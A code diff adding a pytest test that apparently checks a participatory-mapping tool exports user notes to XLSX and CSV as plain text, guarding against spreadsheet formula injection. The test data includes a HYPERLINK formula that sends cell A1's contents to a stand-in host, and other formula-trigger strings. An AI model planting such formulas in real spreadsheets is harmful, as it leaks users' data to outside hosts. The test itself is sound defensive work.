@@ -30,3 +30,27 @@ def test_session_exports_as_geopackage_and_xlsx(tmp_path):
     assert sheets["reacties"].iloc[0]["reden"] == "dichtbij"
     with pytest.raises(GebiedError):
         export_werksessie(store, code, tmp_path / "sessie.csv")
+
+
+def test_a_note_that_looks_like_a_formula_arrives_in_xlsx_and_csv_as_text(tmp_path):
+    import openpyxl
+
+    from gebied.core.io import write_table
+
+    store = Store(f"sqlite:///{tmp_path / 'w.sqlite'}")
+    code, _ = store.open_sessie("Avond", "liechtenstein", None, [])
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
+    for i, text in enumerate([evil, "+31 6 1234", "@SUM(A1)", "-2+3"]):
+        store.add_opmerking(code, f"p{i}", "algemeen", text, 9.5, 47.1)
+    xlsx = export_werksessie(store, code, tmp_path / "sessie.xlsx")
+    sheet = openpyxl.load_workbook(xlsx)["opmerkingen"]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
+    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    notes = store.opmerkingen(code)[["tekst"]]
+    write_table(notes, tmp_path / "n.csv")
+    lines = (tmp_path / "n.csv").read_text(encoding="utf-8").splitlines()[1:]
+    assert all(line.lstrip('"').startswith("'") for line in lines), lines
+    write_table(notes, tmp_path / "n.xlsx")
+    assert not any(c.data_type == "f" for row in openpyxl.load_workbook(tmp_path / "n.xlsx").active.iter_rows()
+                   for c in row)
